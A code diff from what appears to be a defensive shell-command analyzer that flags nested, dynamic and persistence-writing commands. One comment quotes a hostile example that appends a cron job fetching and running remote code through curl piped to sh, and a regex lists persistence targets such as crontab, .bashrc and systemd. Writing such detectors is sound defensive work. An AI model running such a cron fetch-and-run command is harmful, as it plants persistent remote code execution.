@@ -3,51 +3,17 @@
  * nested code: `bash -c`, stdin scripts, `eval`, `powershell -EncodedCommand`, `cmd /c`,
  * `find -exec`, `Start-Process`, `python -c`…
  */
-import { DYN, type Invocation, type Lang } from './ir.js';
-import { fixedMapper, shiftMapper, type Engine, type SpanMapper } from './engine.js';
+import { DYN, type Invocation } from './ir.js';
+import { fixedMapper, type WalkEngine, type SpanMapper } from './engine-api.js';
 import { isPosixShell, isPython, PS_HOSTS, readsCodeFromStdin } from './programs.js';
 import { scanSnippet } from './snippets.js';
 import { resolveProgram } from './wrappers.js';
 import { expandPowerShellHost } from './powershell/host.js';
+import { argMapper, nested, stdinMapper } from './nesting.js';
 
 export { resolveProgram, type Resolved } from './wrappers.js';
 
 /** A mapper for nested code found in argument `i` of `inv`. */
-export function argMapper(engine: Engine, inv: Invocation, i: number, value: string): SpanMapper {
-  const span = inv.argSpans[i] ?? inv.span;
-  const raw = engine.input.slice(span.start, span.end);
-  const at = raw.indexOf(value);
-  if (value.length > 0 && at >= 0 && raw.length - value.length <= 3) return shiftMapper((x, y) => ({ start: x, end: y }), span.start + at);
-  return fixedMapper(span);
-}
-
-export function stdinMapper(engine: Engine, inv: Invocation): SpanMapper {
-  const span = inv.stdinSpan ?? inv.span;
-  const text = inv.stdinText ?? '';
-  if (!inv.stdinDecoded && engine.input.slice(span.start, span.end) === text) return shiftMapper((x, y) => ({ start: x, end: y }), span.start);
-  return fixedMapper(span);
-}
-
-/** Tools whose whole purpose is to print shell set-up code for `eval "$(tool …)"`. */
-const ENV_PRINTERS = /^(ssh-agent|gpg-agent|keychain|pyenv|rbenv|nodenv|jenv|goenv|plenv|direnv|brew|starship|zoxide|fnm|mise|rtx|asdf|conda|mamba|micromamba|opam|dircolors|thefuck|docker-machine|minikube|navi|atuin|mcfly|fzf|kubectl|helm|gh|rustup|pipenv|poetry|uv|npm|pnpm|rye|nix|op|aws-vault|luarocks|perl|ruby)$/;
-
-function fromEnvPrinter(inv: Invocation): boolean {
-  const subs = inv.substitutions;
-  return subs.length > 0 && subs.every((s) => (ENV_PRINTERS.test(s.program) && !s.args.some((a) => /^-[ce]$/.test(a))) || (s.program === 'cat' && s.args.length > 0 && s.args.every((a) => !a.startsWith('/dev/') && !a.includes(DYN))));
-}
-
-export function nested(engine: Engine, inv: Invocation, lang: Lang, code: string, map: SpanMapper, decoded = false): void {
-  if (code.includes(DYN) && fromEnvPrinter(inv)) return;
-  if (code.includes(DYN)) {
-    engine.event('dynamic_code', inv.span, `${inv.program} runs code that is only known when the command runs`, inv.depth);
-    // PowerShell expressions were already walked in place; re-parsing their text adds nothing.
-    if (inv.lang === 'powershell' && lang === 'powershell') return;
-    code = code.split(DYN).join(' ');
-  }
-  const added = engine.analyze(lang, code, map, inv.depth + 1, inv, decoded || inv.decoded);
-  if (inv.root) for (const x of added) x.root = true;
-}
-
 function snippetLang(p: string): 'python' | 'perl' | 'ruby' | 'node' | 'php' | 'lua' | 'awk' | 'other' | undefined {
   if (isPython(p)) return 'python';
   if (p === 'perl') return 'perl';
@@ -60,7 +26,7 @@ function snippetLang(p: string): 'python' | 'perl' | 'ruby' | 'node' | 'php' | '
   return undefined;
 }
 
-export function expandInvocation(engine: Engine, inv: Invocation, _map: SpanMapper): void {
+export function expandInvocation(engine: WalkEngine, inv: Invocation, _map: SpanMapper): void {
   if (inv.wrappers.includes('xargs') && inv.stdinText !== undefined && inv.args[inv.args.length - 1] === DYN) {
     // `echo a b | xargs cmd`: the words on stdin become the arguments.
     const words = inv.stdinText.split(/\s+/).filter(Boolean).slice(0, 256);
@@ -254,7 +220,7 @@ function shellQuote(s: string): string {
 }
 
 /** `echo '* * * * * curl x|sh' >> /etc/crontab`: the text lands in a file that runs later; analyze it. */
-function expandWrittenScript(engine: Engine, inv: Invocation): void {
+function expandWrittenScript(engine: WalkEngine, inv: Invocation): void {
   const targets = [...inv.redirects.filter((r) => r.op.includes('>')).map((r) => r.target), ...inv.downstream.filter((d) => d.program === 'tee' || d.program === 'crontab').flatMap((d) => (d.program === 'crontab' ? ['crontab'] : d.args))];
   if (!targets.some((t) => /cron|\.bashrc|\.zshrc|\.profile|\.bash_profile|\.bash_login|\/etc\/profile|rc\.local|\.config\/autostart|systemd|init\.d|\.desktop$|\.sh$/.test(t))) return;
   const text = inv.args.filter((x) => !/^-[neE]+$/.test(x)).join(' ');
@@ -268,7 +234,7 @@ function expandWrittenScript(engine: Engine, inv: Invocation): void {
   }
 }
 
-function expandLines(engine: Engine, inv: Invocation, text: string, targets: string[]): void {
+function expandLines(engine: WalkEngine, inv: Invocation, text: string, targets: string[]): void {
   for (const line of text.split('\n')) {
     const cron = /^\s*(@\w+|(\S+\s+){5})(\S+\s+)?(.*)$/.exec(line);
     const isCron = targets.some((t) => /cron/.test(t));
